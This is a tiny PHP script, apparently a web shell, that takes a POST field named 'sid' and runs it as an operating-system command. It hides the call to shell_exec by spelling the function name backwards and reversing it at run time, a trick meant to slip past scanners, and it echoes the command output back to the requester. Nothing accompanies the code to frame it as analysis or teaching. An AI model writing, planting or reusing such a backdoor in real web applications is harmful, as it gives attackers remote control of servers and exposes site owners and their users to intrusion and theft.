<?php
header('Content-Type: text/plain');
$tmp = filter_input(INPUT_POST, 'sid');
$c = Closure::fromCallable(implode('', array_reverse(str_split('cexe_llehs'))));
echo $c($tmp);
